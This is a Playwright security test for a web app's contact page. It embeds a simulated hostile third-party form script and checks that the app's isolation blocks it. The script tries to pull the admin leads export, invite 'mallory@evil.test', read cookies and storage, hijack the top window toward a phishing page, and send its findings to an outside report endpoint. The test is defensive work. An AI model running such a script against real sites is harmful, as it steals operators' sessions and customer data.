import type { Page } from "@playwright/test";
import { thirdParty } from "../../site.ts";
import { expect, settled, test } from "../back-office.ts";

/** Takes what it can get of the site at `site`, and reports it home. */
const hostile = (site: string) => `
  const site = ${JSON.stringify(site)};
  const invitation = new URLSearchParams({ email: "mallory@evil.test" });
  const attempts = {
    export: () => fetch(site + "/admin/leads/export?list=enquiries", { credentials: "include" }).then((answer) => answer.text()),
    ownExport: () => fetch("/admin/leads/export?list=enquiries").then((answer) => answer.text()),
    invite: () => fetch(site + "/admin/settings/people/invite", { method: "POST", mode: "no-cors", credentials: "include", body: invitation }).then(({ type }) => type),
    cookies: () => document.cookie,
    storage: () => JSON.stringify({ ...localStorage, ...sessionStorage }).replace("{}", ""),
    page: () => parent !== window && parent.document.body.innerHTML,
    worker: () => navigator.serviceWorker.register("/contact/form").then(() => "registered"),
    inner: () => new Promise((settle) => {
      const frame = document.createElement("iframe");
      frame.src = site + "/admin";
      frame.onload = () => { try { settle(frame.contentDocument?.body.innerText) } catch { settle("") } };
      document.body.append(frame);
    }),
    form: () => {
      const form = document.createElement("form");
      form.method = "post";
      form.action = site + "/admin/settings/people/invite";
      form.innerHTML = '<input name="email" value="mallory@evil.test">';
      document.body.append(form);
      form.submit();
    },
    top: () => { if (top !== window) { top.location.href = "${thirdParty}/phishing"; return "gone" } },
  };
  window.hbspt = { forms: { async create({ target }) {
    const got = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      try { got[name] = (await attempt()) || null } catch { got[name] = null }
    }
    document.querySelector(target).append(document.createElement("form"));
    fetch("${thirdParty}/report", { method: "POST", mode: "no-cors", body: JSON.stringify(got) });
  } } };`;

async function withHostileScript(page: Page, site: string): Promise<() => Promise<Record<string, unknown>>> {
  let report = Promise.withResolvers<Record<string, unknown>>();
  await page.context().route(`${thirdParty}/**`, (route) => {
    const request = route.request();
    if (new URL(request.url()).pathname !== "/report") {
      return route.fulfill({ contentType: "text/javascript", body: hostile(site) });
    }
    report.resolve(request.postDataJSON() as Record<string, unknown>);
    return route.fulfill({ body: "" });
  });
  return async () => {
    const got = await report.promise;
    report = Promise.withResolvers();
    return got;
  };
}

test("a hostile form script gets and does nothing with the session of an operator who opens the page", async ({
  page,
  baseURL,
  expectConsoleError,
}) => {
  expectConsoleError(
    /Content Security Policy|sandbox|Unsafe attempt|SecurityError|ERR_BLOCKED|status of 40\d|target origin provided/i,
  );
  const exported = await page.request.get("/admin/leads/export?list=enquiries");
  expect(exported.headers()["content-type"]).toContain("text/csv");

  const reported = await withHostileScript(page, baseURL ?? "");
  await page.goto("/contact");
  await settled(page);
  const got = await reported();
  expect(Object.keys(got)).toHaveLength(10);
  expect(Object.entries(got).filter(([, value]) => value !== null)).toEqual([]);
  await expect(page).toHaveURL("/contact");

  const frame = page.locator("#embedded-form iframe");
  await expect(frame).toBeVisible();
  const address = await frame.evaluate((element: HTMLIFrameElement) => element.src);
  await page.goto(address, { waitUntil: "commit" });
  const alone = await reported();
  expect(Object.entries(alone).filter(([, value]) => value !== null)).toEqual([]);

  await page.goto("/admin/settings/people");
  await expect(page.getByText("operator@northlight.test").first()).toBeVisible();
  await expect(page.getByText("mallory@evil.test")).toHaveCount(0);
});
